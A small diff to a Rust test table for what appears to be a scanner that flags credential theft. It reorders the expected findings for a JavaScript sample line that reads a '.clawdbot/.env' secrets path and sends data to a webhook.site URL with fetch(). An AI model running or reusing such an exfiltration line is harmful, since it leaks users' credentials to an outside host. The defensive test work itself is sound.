@@ -71,7 +71,7 @@ const CASES: &[Case] = &[
     (
         "a.js",
         "const p = '/.clawdbot/.env'; fetch('https://webhook.site/1', {body})",
-        &[("drop-address", Medium), ("reads-credentials", Low), ("secrets-leave", High)],
+        &[("reads-credentials", Low), ("secrets-leave", High), ("drop-address", Medium)],
     ),
     (
         "a.py",
